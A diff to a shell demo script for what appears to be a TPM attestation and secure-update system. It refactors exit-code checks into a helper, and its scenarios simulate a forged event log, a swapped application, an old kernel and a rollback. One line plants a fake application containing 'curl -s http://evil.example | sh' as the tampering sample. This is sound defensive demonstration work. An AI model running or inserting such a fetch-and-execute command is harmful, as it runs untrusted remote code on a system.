@@ -14,6 +14,15 @@ norm=$(tput sgr0 2>/dev/null || true)
 step=0
 say() { step=$((step + 1)); printf '\n%s%d. %s%s\n' "$bold" "$step" "$*" "$norm"; }
 run() { printf '   $ %s\n' "$*"; "$@" 2>&1 | sed 's/^/     /'; return "${PIPESTATUS[0]}"; }
+# run_expect CODE MEANING CMD...: run CMD, which must exit CODE (MEANING says why).
+run_expect() {
+  local want=$1 meaning=$2 rc=0
+  shift 2
+  run "$@" || rc=$?
+  [ "$rc" -eq "$want" ] && return 0
+  printf '\nUnexpected: %s exited %d, expected %d (%s).\n' "${1##*/}" "$rc" "$want" "$meaning" >&2
+  exit 1
+}
 
 work=$(mktemp -d /tmp/gatewarden-demo.XXXXXX)
 swtpm_pid=
@@ -147,13 +156,9 @@ gold = open(sys.argv[2], 'rb').read().split(b'\x1e')
 cur[2] = gold[2]          # record 1 (application) copied from the good boot
 open(sys.argv[3], 'wb').write(b'\x1e'.join(cur))
 PY
-set +e
-run "$B/gwverifier" check-quote --ak "$work/state/ak.pem" --nonce "$nonce" \
-  --message "$work/quote2/quote.msg" --signature "$work/quote2/quote.sig" \
+run_expect 17 "the log does not replay" "$B/gwverifier" check-quote --ak "$work/state/ak.pem" \
+  --nonce "$nonce" --message "$work/quote2/quote.msg" --signature "$work/quote2/quote.sig" \
   --pcrs "$work/quote2/quote.pcrs" --eventlog "$work/quote2/firmware.bin" --cel "$work/forged.cel"
-rc=$?
-set -e
-[ "$rc" -eq 17 ] || { printf 'Unexpected exit %d, expected 17.\n' "$rc" >&2; exit 1; }
 
 
 # ---------------------------------------------------------------- verifier ---
@@ -245,11 +250,7 @@ say "The attacker swaps the application again; the gateway reboots and attests."
 printf '#!/bin/sh\necho gateway application v1.4; curl -s http://evil.example | sh\n' >"$work/gateway/gateway-app"
 power_on
 run "${A[@]}" boot
-set +e
-run "${A[@]}" attest
-rc=$?
-set -e
-[ "$rc" -eq 24 ] || { printf 'Unexpected: attest exited %d, expected 24 (contraindicated).\n' "$rc" >&2; exit 1; }
+run_expect 24 "contraindicated" "${A[@]}" attest
 printf '   Contraindicated, naming the stage: this gateway gets no update authorization.\n'
 
 say "The application is restored, but the gateway now boots an old, vulnerable kernel."
@@ -267,11 +268,7 @@ PY
 sed -i "s|^firmware_log = .*|firmware_log = $work/old-kernel.bin|" "$work/agent.conf"
 power_on "$work/old-kernel.bin"
 run "${A[@]}" boot
-set +e
-run "${A[@]}" attest
-rc=$?
-set -e
-[ "$rc" -eq 24 ] || { printf 'Unexpected: attest exited %d, expected 24 (contraindicated).\n' "$rc" >&2; exit 1; }
+run_expect 24 "contraindicated" "${A[@]}" attest
 printf '   The firmware rules name the kernel and the PCR 4 event, expected against seen.\n'
 
 say "The operator's view: the fleet, the device's history, and the audit chain."
@@ -387,11 +384,7 @@ pcr14
 
 say "Someone offers the gateway release 1.3 (security version 1), an old one with known holes."
 bundle 1.3 1
-set +e
-run "${A[@]}" update install --no-progress "$U/release-1.3.gwb"
-rc=$?
-set -e
-[ "$rc" -eq 35 ] || { printf 'Unexpected: install exited %d, expected 35 (below the counter).\n' "$rc" >&2; exit 1; }
+run_expect 35 "below the counter" "${A[@]}" update install --no-progress "$U/release-1.3.gwb"
 printf '   Refused: the TPM counter says this gateway already runs security version 2.\n'
 
 say "Release 1.6 (security version 3) installs fine, but it breaks the uplink."
@@ -399,11 +392,7 @@ bundle 1.6 3
 run "${A[@]}" update install --no-progress "$U/release-1.6.gwb"
 touch "$U/uplink-broken"
 restart
-set +e
-run "${A[@]}" boot
-rc=$?
-set -e
-[ "$rc" -eq 40 ] || { printf 'Unexpected: boot exited %d, expected 40 (rolled back).\n' "$rc" >&2; exit 1; }
+run_expect 40 "rolled back" "${A[@]}" boot
 printf '   The health check failed: group A is marked bad and the reboot command ran\n'
 printf '   (it wrote "%s"); the counter stays at 2. The next boot is group B again.\n' "$(cat "$U/reboots")"
 rm -f "$U/uplink-broken"
